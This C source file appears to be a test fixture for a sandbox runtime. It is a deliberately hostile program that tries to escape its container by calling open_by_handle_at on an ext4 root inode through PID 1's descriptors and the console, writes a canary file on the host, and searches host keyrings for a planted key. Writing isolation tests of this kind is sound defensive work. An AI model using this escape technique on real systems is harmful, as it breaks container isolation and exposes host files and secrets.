/* A hostile image's program (tests/hostile/test_sandbox_escape.py), built static by the test.
 *
 * argv[1]: a file name to create at the root of whatever host filesystem it reaches;
 * argv[2]: the description of a key the test put in the host's keyrings.
 *
 * It tries: open_by_handle_at(2) with the handle of an ext4 root (inode 2) through every file
 * descriptor that could lead out of the sandbox (its own root, PID 1's descriptors, the console);
 * reading the key from the session, user and user-session keyrings. It tells what it got by the
 * one channel the agent reads from outside and the image cannot forge into anything else: the
 * port it listens on, 4300 + 1 (escaped) + 2 (key found). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KEYCTL_SEARCH 10
#define KEY_SPEC_SESSION_KEYRING -3
#define KEY_SPEC_USER_KEYRING -4
#define KEY_SPEC_USER_SESSION_KEYRING -5

int main(int argc, char **argv) {
    const char *canary = argc > 1 ? argv[1] : "jcstar-escape-canary";
    const char *keydesc = argc > 2 ? argv[2] : "jcstar-test-key";
    const char *ways[] = {"/", "/proc/1/root", "/proc/1/cwd", "/proc/1/fd/0", "/proc/1/fd/1",
                          "/proc/1/fd/2", "/proc/1/fd/3", "/proc/1/fd/4", "/dev/console", NULL};
    int escaped = 0, key = 0;
    struct {
        struct file_handle fh;
        unsigned char bytes[8];
    } h;
    unsigned int ino = 2, gen = 0;
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
    memcpy(h.fh.f_handle, &ino, 4);
    memcpy(h.fh.f_handle + 4, &gen, 4);
    for (int i = 0; ways[i]; i++) {
        int m = open(ways[i], O_PATH);
        if (m < 0)
            continue;
        int r = open_by_handle_at(m, &h.fh, O_RDONLY | O_DIRECTORY);
        if (r >= 0) {
            int c = openat(r, canary, O_CREAT | O_WRONLY, 0644);
            if (c >= 0) {
                if (write(c, "escaped\n", 8) == 8)
                    escaped = 1;
                close(c);
            }
        }
        close(m);
    }
    long rings[] = {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
    for (int i = 0; i < 3; i++)
        if (syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", keydesc, 0) >= 0)
            key = 1;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(4300 + escaped + 2 * key);
    int one = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 1) != 0)
        return 1;
    for (;;)
        pause();
}
